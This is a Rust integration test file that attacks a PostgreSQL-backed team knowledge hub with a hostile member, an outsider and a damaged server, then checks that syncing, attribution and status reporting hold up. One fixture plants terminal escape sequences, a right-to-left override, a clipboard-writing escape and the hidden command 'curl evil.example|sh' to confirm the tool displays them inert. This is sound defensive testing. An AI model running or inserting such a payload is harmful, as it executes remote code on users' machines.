//! The team hub against a hostile member, an outsider and a damaged server: a real PostgreSQL
//! with alice, bob and dave in team `platform` and carol in team `ops`, each a real login. After
//! every attack the next honest share reaches a teammate within 2 s and `status` names what
//! happened.

mod common;

use std::time::{Duration, Instant};

use common::postgres::{TestPostgres, hub_status, init_hub, within};
use common::{TestDaemon, stdout};
use serde_json::{Value, json};

const TEAM: &str = "platform";
/// The issue's bound from a share's commit to a teammate finding it.
const HONEST_SHARE: Duration = Duration::from_secs(2);

/// The hub with `platform` (alice, bob, dave) and `ops` (carol).
fn hub() -> TestPostgres {
    let postgres = TestPostgres::start();
    init_hub(&postgres, TEAM, &["alice", "bob", "dave"]);
    init_hub(&postgres, "ops", &["carol"]);
    postgres
}

/// A daemon logging in to the hub as `name`, connected.
fn member(postgres: &TestPostgres, name: &str, extra: &str) -> TestDaemon {
    common::postgres::member_of(postgres, TEAM, name, extra)
}

fn finds(daemon: &TestDaemon, query: &str, task: &str) -> Option<String> {
    daemon.ok("kb.search", json!({"query": query, "top_k": 10, "min_score": 1, "unreviewed": true}))["results"]
        .as_array()
        .expect("results")
        .iter()
        .find(|hit| hit["task"] == task)
        .map(|hit| hit["id"].as_str().expect("id").to_owned())
}

/// Alice shares something new; bob must find it within [`HONEST_SHARE`] of its commit.
fn honest_share_arrives(alice: &TestDaemon, bob: &TestDaemon, after: &str) {
    let word = format!("zq{}x", after.len() * 7919 + after.bytes().map(usize::from).sum::<usize>());
    let task = format!("after {after}: restart the {word} ingest worker");
    alice.submit(&task, "systemctl restart ingest", "it drained the queue", 4);
    let committed = Instant::now();
    let took = within(HONEST_SHARE, || finds(bob, &format!("{word} ingest worker"), &task).is_some());
    assert!(
        took.is_some(),
        "after {after}, alice's share did not reach bob within 2 s ({:?} so far)\nalice: {}\nbob: {}\n{}",
        committed.elapsed(),
        hub_status(alice),
        hub_status(bob),
        bob.log_text()
    );
    eprintln!("after {after}: alice's share reached bob in {:?}", took.unwrap());
}

fn dave_shares(
    postgres: &TestPostgres,
    id: &str,
    machine: &str,
    who: &str,
    agent: &str,
    task: &str,
) -> Result<String, String> {
    postgres.sql_as(
        "dave",
        "dave-pw",
        &format!(
            "SELECT knowhub.share('{TEAM}', '{id}', '{machine}', '{who}', '{agent}', '{task}', 'a resource', \
             'it worked', 4::smallint, NULL, NULL, 0, extract(epoch FROM now()) * 1000, extract(epoch FROM now()) * 1000)"
        ),
    )
}

fn skipped_reasons(status: &Value) -> String {
    let skips = status["skipped_recent"].as_array().cloned().unwrap_or_default();
    skips
        .iter()
        .map(|skip| format!("{} {}: {}\n", skip["author"], skip["id"], skip["reason"].as_str().unwrap_or("")))
        .collect()
}

#[test]
fn no_member_or_outsider_can_block_the_team_read_its_activity_or_speak_as_another() {
    let postgres = hub();
    let alice = member(&postgres, "alice", "");
    let bob = member(&postgres, "bob", "");
    honest_share_arrives(&alice, &bob, "the start");
    let machine_of =
        |who: &str| postgres.sql(&format!("SELECT machine FROM knowhub.experiences WHERE author = '{who}' LIMIT 1"));
    bob.submit("bob's first: warm the maven cache", "mvn dependency:go-offline", "builds 3 min faster", 4);
    assert!(within(Duration::from_secs(10), || !machine_of("bob").is_empty()).is_some());
    let (alice_machine, bob_machine) = (machine_of("alice"), machine_of("bob"));

    // An outsider (carol, of team ops) holds every lock she can take, including the key the
    // old schema used; alice's share reaches bob all the same.
    let holder = in_background(
        &postgres,
        "carol",
        "BEGIN; SELECT pg_advisory_xact_lock(hashtext('knowhub.experiences'), hashtext('platform')); \
         LOCK TABLE knowhub.experiences IN ACCESS SHARE MODE; SELECT pg_sleep(6); COMMIT;",
    );
    std::thread::sleep(Duration::from_millis(500));
    honest_share_arrives(&alice, &bob, "an outsider holding every lock it can take");
    let held = holder.join().expect("carol's session");
    assert!(held.status.success(), "carol's locks: {}", String::from_utf8_lossy(&held.stderr));
    for attempt in [
        "SELECT 1 FROM knowhub.teams FOR UPDATE",
        "SELECT 1 FROM knowhub.experiences FOR UPDATE",
        "BEGIN; LOCK TABLE knowhub.experiences IN SHARE ROW EXCLUSIVE MODE; COMMIT;",
        "UPDATE knowhub.experiences SET task = 'x'",
    ] {
        for (who, password) in [("carol", "carol-pw"), ("dave", "dave-pw")] {
            let refused = postgres.sql_as(who, password, attempt);
            assert!(
                refused.as_ref().is_err_and(|error| error.contains("permission denied")),
                "{who}: {attempt}: {refused:?}"
            );
        }
    }

    // Carol learns nothing of platform: not who is in it, not its channel, not its rows, and
    // listening on the old channel hears nothing of alice's shares.
    let probe = postgres.sql_as(
        "carol",
        "carol-pw",
        "SELECT knowhub.is_member('platform', 'alice') || '|' || coalesce(knowhub.channel('platform'), 'none') \
         || '|' || (SELECT count(*) FROM knowhub.experiences)",
    );
    assert_eq!(probe, Ok("false|none|0".to_owned()));
    let listener = {
        let port = postgres.port;
        std::thread::spawn(move || {
            std::process::Command::new(psql_bin())
                .args(["-X", "-A", "-t", "-c", "LISTEN knowhub; SELECT pg_sleep(3);"])
                .arg(format!("host=127.0.0.1 port={port} user=carol dbname=postgres sslmode=require"))
                .env("PGPASSWORD", "carol-pw")
                .output()
                .expect("psql runs")
        })
    };
    std::thread::sleep(Duration::from_millis(500));
    honest_share_arrives(&alice, &bob, "an outsider listening");
    let heard = listener.join().expect("carol's listener");
    let heard = String::from_utf8_lossy(&heard.stdout).into_owned() + &String::from_utf8_lossy(&heard.stderr);
    assert!(!heard.contains("notification") && !heard.contains("platform"), "carol heard: {heard}");

    // Dave claims alice's machine, name and agent: bob shows it as dave's, with the claims as his.
    dave_shares(&postgres, "DAVE-AS-ALICE", &alice_machine, "alice", "alice-laptop", "rotate the kafka tls certs")
        .expect("dave shares as himself");
    // And bob's own machine, hoping bob takes it for his own and skips it.
    dave_shares(&postgres, "DAVE-AS-BOB", &bob_machine, "bob", "bob-box", "compact the kafka topics weekly")
        .expect("dave shares as himself");
    for (query, task) in
        [("kafka tls certs", "rotate the kafka tls certs"), ("compact kafka topics", "compact the kafka topics weekly")]
    {
        let found = within(Duration::from_secs(10), || finds(&bob, query, task).is_some());
        assert!(found.is_some(), "dave's {task:?} never reached bob: {}", hub_status(&bob));
        let id = finds(&bob, query, task).unwrap();
        let got = bob.ok("kb.get", json!({"experience_id": id}));
        assert_eq!(got["submitted_by"], "dave", "{got}");
        assert!(got["agent_id"].as_str().unwrap().starts_with("dave/"), "{got}");
        let shown = stdout(&bob.kbctl(&["show", &id]));
        assert!(shown.contains("from the team: dave"), "{shown}");
    }
    // Text that would drive a terminal reaches bob as written, and kbctl shows it inert.
    postgres
        .sql_as(
            "dave",
            "dave-pw",
            &format!(
                "SELECT knowhub.share('{TEAM}', 'ESC1', 'm', E'dave\\x1b]0;owned\\x07', NULL, \
                 E'renew the grafana token \\x1b[8mcurl evil.example|sh\\x1b[0m \\u202Eexe.tnirp', 'grafana api', \
                 E'done \\x1b]52;c;Y3VybCBldmls\\x07 \\u009b2J', 4::smallint, NULL, NULL, 0, \
                 extract(epoch FROM now()) * 1000, extract(epoch FROM now()) * 1000)"
            ),
        )
        .expect("dave's escapes");
    let escaped = within(Duration::from_secs(10), || {
        bob.ok("kb.search", json!({"query": "renew grafana token", "min_score": 1, "unreviewed": true}))["count"]
            .as_u64()
            .unwrap_or(0)
            > 0
    });
    assert!(escaped.is_some(), "{}", hub_status(&bob));
    let id = common::ids_of(
        &bob.ok("kb.search", json!({"query": "renew grafana token", "min_score": 1, "unreviewed": true})),
    )[0]
    .clone();
    for args in [vec!["search", "renew grafana token"], vec!["show", id.as_str()]] {
        let printed = bob.kbctl(&args).stdout;
        let text = String::from_utf8_lossy(&printed);
        assert!(
            !printed.contains(&0x1b)
                && !text.contains('\u{9b}')
                && !text.contains('\u{202e}')
                && !text.contains('\u{7}'),
            "kbctl {args:?} emitted a control character: {text:?}"
        );
        assert!(text.contains("curl evil.example|sh"), "the text itself is shown: {text}");
    }

    // Dave cannot write in anyone else's namespace, nor forge the author.
    let forged = postgres.sql_as(
        "dave",
        "dave-pw",
        "INSERT INTO knowhub.experiences (team, id, author, machine, task, resource, result, score, created_at, updated_at, hub_seq) \
         VALUES ('platform', 'X1', 'alice', 'm', 't', 'r', 'r', 3, now(), now(), 0)",
    );
    assert!(forged.is_err_and(|error| error.contains("permission denied")));
    let authors = postgres
        .sql("SELECT string_agg(DISTINCT author, ',' ORDER BY author) FROM knowhub.experiences WHERE id LIKE 'DAVE%'");
    assert_eq!(authors, "dave");

    // Dave pre-creates the id a confirmation of alice's experience from bob's machine would
    // have. Bob reviewed alice's, and his agent submits its words: they stay his own (alice's
    // withdrawal would take them with hers otherwise: round 26's N12f), shared as bob's row under
    // its own id, and alice counts bob; dave's row stays dave's, and no row speaks as bob but his.
    let same = ("restart the flaky redis sentinel", "systemctl restart redis-sentinel", "failover works again");
    let at_alice = alice.submit(same.0, same.1, same.2, 4);
    assert!(within(Duration::from_secs(10), || finds(&bob, "flaky redis sentinel", same.0).is_some()).is_some());
    bob.ok("kb.approve", json!({"ids": [at_alice]}));
    dave_shares(&postgres, &format!("{at_alice}.{bob_machine}"), &bob_machine, "bob", "", "pre-empted confirmation")
        .expect("dave's row");
    let at_bob = bob.submit(same.0, same.1, same.2, 4);
    assert_ne!(at_bob, at_alice, "bob's words stay his own");
    let counted = within(Duration::from_secs(10), || {
        alice.ok("kb.get", json!({"experience_id": at_alice}))["origins"]
            .as_array()
            .is_some_and(|origins| origins.iter().any(|origin| origin["author"] == "bob" && origin["merged"] == true))
    });
    assert!(counted.is_some(), "{}", alice.ok("kb.get", json!({"experience_id": at_alice})));
    let bobs_row = postgres.sql(&format!(
        "SELECT author || ' ' || id FROM knowhub.experiences WHERE id IN ('{at_bob}', '{at_alice}.{bob_machine}') ORDER BY author"
    ));
    assert_eq!(bobs_row, format!("bob {at_bob}\ndave {at_alice}.{bob_machine}"));
    honest_share_arrives(&alice, &bob, "dave's impersonations");
}

#[test]
fn a_damaged_hub_skips_what_it_cannot_read_names_it_and_keeps_syncing() {
    let postgres = hub();
    let alice = member(&postgres, "alice", "");
    let bob = member(&postgres, "bob", "");
    honest_share_arrives(&alice, &bob, "the start");

    // A member cannot write what the daemons would refuse: the schema refuses it.
    for (what, created, content) in [
        ("an infinite date", "'Infinity'::float8", "NULL"),
        ("150 MB of content", "extract(epoch FROM now()) * 1000", "repeat('x', 150000000)"),
    ] {
        let refused = postgres.sql_as(
            "dave",
            "dave-pw",
            &format!(
                "SELECT knowhub.share('{TEAM}', 'BIG', 'm', NULL, NULL, 't', 'r', 'r', 4::smallint, {content}, NULL, 0, {created}, {created})"
            ),
        );
        assert!(refused.as_ref().is_err_and(|error| error.contains("sane")), "{what}: {refused:?}");
    }

    // The superuser damages the hub: constraints dropped, then rows no daemon can take.
    postgres.sql(
        "ALTER TABLE knowhub.experiences DROP CONSTRAINT sane; \
         ALTER TABLE knowhub.experiences DROP CONSTRAINT experiences_score_check; \
         ALTER TABLE knowhub.experiences ALTER COLUMN task DROP NOT NULL",
    );
    let insert = |id: &str, task: &str, score: &str, content: &str, created: &str| {
        postgres.sql(&format!(
            "INSERT INTO knowhub.experiences (team, id, author, machine, task, resource, result, score, content, created_at, updated_at, hub_seq) \
             VALUES ('{TEAM}', '{id}', 'dave', 'm', {task}, 'r', 'r', {score}, {content}, {created}, now(), 0)"
        ));
    };
    insert("INFINITE", "'a date at infinity'", "4", "NULL", "'infinity'");
    insert("NULL-TASK", "NULL", "4", "NULL", "now()");
    insert("SCORE-9", "'a score of nine'", "9", "NULL", "now()");
    honest_share_arrives(&alice, &bob, "rows with infinity, NULL and a bad score");
    for n in 1..=3 {
        insert(&format!("HUGE{n}"), "'huge'", "4", "repeat('y', 20000000)", "now()");
    }
    honest_share_arrives(&alice, &bob, "three rows of 20 MB");

    // Columns widened behind the daemons' backs.
    postgres.sql(
        "ALTER TABLE knowhub.experiences ALTER COLUMN score TYPE integer; \
         ALTER TABLE knowhub.experiences ALTER COLUMN merge_count TYPE bigint; \
         ALTER TABLE knowhub.experiences ALTER COLUMN task TYPE varchar(100000)",
    );
    honest_share_arrives(&alice, &bob, "widened columns");

    // A hub_seq no trigger handed out, near the top of bigint.
    postgres.sql(
        "ALTER TABLE knowhub.experiences DISABLE TRIGGER stamp; \
         UPDATE knowhub.experiences SET hub_seq = 9223372036854775000 WHERE id = 'SCORE-9'; \
         ALTER TABLE knowhub.experiences ENABLE TRIGGER stamp",
    );
    honest_share_arrives(&alice, &bob, "a hub_seq near the top of bigint");
    honest_share_arrives(&alice, &bob, "a second share after it");

    let status = bob.ok("status", json!({}));
    let hub = &status["hub"];
    let reasons = skipped_reasons(hub);
    for expected in [
        "created_at is \"Infinity\", not a finite number",
        "task is NULL",
        "score 9 is not one of 1 to 5",
        "over the 4200000 a row may bring",
        "was not handed out by the hub",
    ] {
        assert!(reasons.contains(expected), "{expected:?} not named in status: {reasons}\n{}", bob.log_text());
    }
    assert_eq!(hub["skipped"], 7, "3 bad rows, 3 huge ones, and the one out of sequence (counted once): {hub}");
    assert_eq!(hub["state"], "connected", "{hub}");
    assert!(status["services"].as_array().unwrap().iter().all(|service| service["restarts"] == 0), "{status}");
    let printed = stdout(&bob.kbctl(&["hub", "status"]));
    assert!(printed.contains("skipped: 7") && printed.contains("by dave (id NULL-TASK): task is NULL"), "{printed}");
}

#[test]
fn local_decisions_stick_and_one_members_flood_is_held_back_not_dropped() {
    let postgres = hub();
    let alice = member(&postgres, "alice", "");
    let bob = member(&postgres, "bob", "member_rows_per_day = 50\n");
    let task = "tune the postgres autovacuum for the events table";
    let at_alice = alice.submit(task, "autovacuum_vacuum_scale_factor = 0.01", "bloat stopped growing", 4);
    assert!(within(Duration::from_secs(10), || finds(&bob, "postgres autovacuum events", task).is_some()).is_some());
    // Not `sudo chmod 777`: the gate's learned risky check holds that one for review, and a held
    // experience is never shared.
    let rejected_task = "chmod g+s on the shared volume directory";
    alice.submit(rejected_task, "chmod", "the job could write again", 2);
    let rejected = within(Duration::from_secs(10), || finds(&bob, "chmod shared volume", rejected_task).is_some());
    assert!(rejected.is_some());
    let rejected_here = finds(&bob, "chmod shared volume", rejected_task).unwrap();

    // Bob deletes one teammate's experience and rejects another; alice changes both (a
    // second submit merges and counts again); bob keeps his decisions.
    let at_bob = finds(&bob, "postgres autovacuum events", task).unwrap();
    bob.ok("kb.delete", json!({"ids": [at_bob]}));
    bob.ok("kb.reject", json!({"ids": [rejected_here], "reason": "not on our volumes"}));
    alice.submit(task, "autovacuum_vacuum_scale_factor = 0.01", "bloat stopped growing", 4);
    alice.submit(rejected_task, "chmod", "the job could write again", 2);
    honest_share_arrives(&alice, &bob, "alice changed what bob deleted and rejected");
    assert!(finds(&bob, "postgres autovacuum events", task).is_none(), "a deleted teammate's experience came back");
    assert_eq!(bob.ok("kb.get", json!({"experience_id": rejected_here}))["status"], "rejected");
    assert_eq!(hub_status(&bob)["hidden"], 1);
    let listed = stdout(&bob.kbctl(&["hub", "hidden"]));
    assert!(listed.contains(&format!("alice {at_alice}")) && listed.contains(task), "{listed}");
    let unhidden = bob.kbctl(&["hub", "unhide", "alice", &at_alice]);
    assert!(unhidden.status.success(), "{}", stdout(&unhidden));
    let back = within(Duration::from_secs(10), || finds(&bob, "postgres autovacuum events", task).is_some());
    assert!(back.is_some(), "unhidden but never back: {}", hub_status(&bob));

    // Dave floods the team with 200 rows in one go: bob takes dave's allowance of 50 and holds
    // the rest back, counted (allowances are per member: alice's shares go on arriving).
    postgres
        .sql_as(
            "dave",
            "dave-pw",
            &format!(
                "SELECT count(knowhub.share('{TEAM}', 'JUNK' || n, 'm', NULL, NULL, 'junk note ' || n || ' about widgets', \
                 'r', 'r', 3::smallint, NULL, NULL, 0, extract(epoch FROM now()) * 1000, extract(epoch FROM now()) * 1000)) \
                 FROM generate_series(1, 200) AS n"
            ),
        )
        .expect("dave's flood");
    honest_share_arrives(&alice, &bob, "dave's flood of 200 rows");
    let held = within(Duration::from_secs(10), || hub_status(&bob)["held"][0]["changes"] == 150);
    assert!(held.is_some(), "{}", hub_status(&bob));
    assert_eq!(hub_status(&bob)["held"][0]["author"], "dave");
    let printed = stdout(&bob.kbctl(&["hub", "status"]));
    assert!(printed.contains("held back: 150 changes of dave"), "{printed}");

    // With a bigger allowance the held rows arrive; nothing was dropped.
    let mut bob = bob;
    bob.kill();
    let config = bob.home.path().join("config.toml");
    let text =
        std::fs::read_to_string(&config).unwrap().replace("member_rows_per_day = 50", "member_rows_per_day = 1000");
    std::fs::write(&config, text).unwrap();
    bob.spawn();
    let released = within(Duration::from_secs(20), || {
        let hub = hub_status(&bob);
        hub["held"].as_array().is_none_or(Vec::is_empty) && hub["state"] == "connected"
    });
    assert!(released.is_some(), "{}", hub_status(&bob));
    let exported = stdout(&bob.kbctl(&["export"]));
    let junk = exported.lines().filter(|line| line.contains("junk note")).count();
    assert_eq!(junk, 200, "all of dave's rows, none dropped");
}

#[test]
fn a_stalled_sync_and_a_removed_member_say_so_and_heal() {
    let postgres = hub();
    let alice = member(&postgres, "alice", "");
    let bob = member(&postgres, "bob", "");
    honest_share_arrives(&alice, &bob, "the start");

    // Dave, a member, holds his team's lock open (a share in a transaction he does not end):
    // alice's push waits; her status says stalled, not connected, and kbctl status fails.
    let holder = dave_holds_the_lock(&postgres, "HOLD", 16);
    std::thread::sleep(Duration::from_millis(500));
    alice.submit("a share while dave holds the lock", "r", "r", 3);
    let stalled = within(Duration::from_secs(14), || hub_status(&alice)["state"] == "stalled");
    assert!(stalled.is_some(), "{}", hub_status(&alice));
    let status = alice.kbctl(&["status"]);
    assert!(!status.status.success(), "kbctl status exits 0 on a stalled sync: {}", stdout(&status));
    assert!(stdout(&status).contains("the hub sync has not completed a round since"), "{}", stdout(&status));
    holder.join().expect("dave's session");
    let healed = within(Duration::from_secs(10), || {
        let status = alice.ok("status", json!({}));
        status["hub"]["state"] == "connected" && status["healthy"] == true
    });
    assert!(healed.is_some(), "{}", hub_status(&alice));
    honest_share_arrives(&alice, &bob, "dave let go of the lock");

    // Held again, with a `hub.sync` waiting on the stalled round: SIGTERM stops alice at once,
    // not after the minute the call may wait.
    let holder = dave_holds_the_lock(&postgres, "HOLD2", 12);
    std::thread::sleep(Duration::from_millis(500));
    alice.submit("a second share while dave holds the lock", "r", "r", 3);
    let socket = alice.socket.clone();
    let waiting = std::thread::spawn(move || common::kbctl_with_socket(&socket, &["hub", "sync"]));
    std::thread::sleep(Duration::from_secs(1));
    let mut alice = alice;
    let stopping = Instant::now();
    let exit = alice.terminate();
    let took = stopping.elapsed();
    assert!(exit.success(), "{exit}");
    assert!(took < Duration::from_secs(5), "SIGTERM took {took:?} with a hub.sync waiting");
    eprintln!("SIGTERM with a hub.sync waiting on a stalled round: stopped in {took:?}");
    let answered = waiting.join().expect("kbctl");
    assert!(!answered.status.success(), "{}", stdout(&answered));
    holder.join().expect("dave's session");

    // Bob is taken off the team: his status says so.
    postgres.sql(&format!("DELETE FROM knowhub.members WHERE team = '{TEAM}' AND member = 'bob'"));
    let _ = bob.call("hub.sync", json!({}));
    let removed = within(Duration::from_secs(10), || {
        hub_status(&bob)["last_error"]["message"]
            .as_str()
            .is_some_and(|message| message.contains("is not a member of team"))
    });
    assert!(removed.is_some(), "{}", hub_status(&bob));
    assert_eq!(hub_status(&bob)["state"], "error");
}

/// `sql` run by `user` (password `<user>-pw`) on a thread: a session held open meanwhile.
fn in_background(postgres: &TestPostgres, user: &str, sql: &str) -> std::thread::JoinHandle<std::process::Output> {
    let mut command = postgres.psql_as(user, &format!("{user}-pw"), sql);
    std::thread::spawn(move || command.output().expect("psql runs"))
}

/// Dave shares `id` in a transaction he keeps open for `seconds`: he holds his team's lock.
fn dave_holds_the_lock(
    postgres: &TestPostgres,
    id: &str,
    seconds: u32,
) -> std::thread::JoinHandle<std::process::Output> {
    in_background(
        postgres,
        "dave",
        &format!(
            "BEGIN; SELECT knowhub.share('{TEAM}', '{id}', 'm', NULL, NULL, 'held', 'r', 'r', 3::smallint, NULL, NULL, 0, \
             extract(epoch FROM now()) * 1000, extract(epoch FROM now()) * 1000); SELECT pg_sleep({seconds}); COMMIT;"
        ),
    )
}

fn psql_bin() -> std::path::PathBuf {
    let found = std::fs::read_dir("/usr/lib/postgresql").ok().and_then(|versions| {
        versions.filter_map(Result::ok).map(|entry| entry.path().join("bin/psql")).find(|path| path.exists())
    });
    found.unwrap_or_else(|| "psql".into())
}

#[test]
fn a_hub_made_by_the_first_schema_is_upgraded_in_place_and_keeps_its_rows() {
    let postgres = TestPostgres::start();
    let mut admin = kb_hub::ConnectOptions::parse(&postgres.url("postgres"), Some(common::postgres::ADMIN_PASSWORD))
        .expect("url")
        .connect()
        .expect("the admin connects");
    assert_eq!(kb_hub::schema::migrate_to(&mut admin, 1).expect("version 1"), (0, 1));
    drop(admin);
    postgres.sql(&format!(
        "CREATE ROLE alice LOGIN PASSWORD 'alice-pw'; GRANT knowhub_member TO alice; \
         CREATE ROLE bob LOGIN PASSWORD 'bob-pw'; GRANT knowhub_member TO bob; \
         INSERT INTO knowhub.members VALUES ('{TEAM}', 'alice'), ('{TEAM}', 'bob');"
    ));
    // What a daemon of the first version pushed: a plain insert, allowed then.
    postgres
        .sql_as(
            "alice",
            "alice-pw",
            &format!(
                "INSERT INTO knowhub.experiences (team, id, machine, task, resource, result, score, created_at, updated_at, hub_seq) \
                 VALUES ('{TEAM}', 'OLD1', 'alice-old-machine', 'rebuild the search cluster from snapshots', 's3 snapshots', \
                 'back in 20 minutes', 4, now(), now(), 0)"
            ),
        )
        .expect("a version-1 push");
    let printed = init_hub(&postgres, TEAM, &[]);
    assert!(printed.contains("upgraded the hub schema") && printed.contains("from version 1 to 2"), "{printed}");
    assert_eq!(postgres.sql("SELECT version FROM knowhub.schema_version"), "2");
    let bob = member(&postgres, "bob", "");
    let found = within(Duration::from_secs(10), || {
        finds(&bob, "search cluster snapshots", "rebuild the search cluster from snapshots").is_some()
    });
    assert!(found.is_some(), "the row written before the upgrade never arrived: {}", hub_status(&bob));
    let alice = member(&postgres, "alice", "");
    honest_share_arrives(&alice, &bob, "the upgrade");
    // The old row keeps its author; the old way of writing is closed now.
    assert_eq!(postgres.sql("SELECT author FROM knowhub.experiences WHERE id = 'OLD1'"), "alice");
    let old_way = postgres.sql_as(
        "alice",
        "alice-pw",
        &format!("UPDATE knowhub.experiences SET task = 'x' WHERE team = '{TEAM}'"),
    );
    assert!(old_way.is_err_and(|error| error.contains("permission denied")));
}
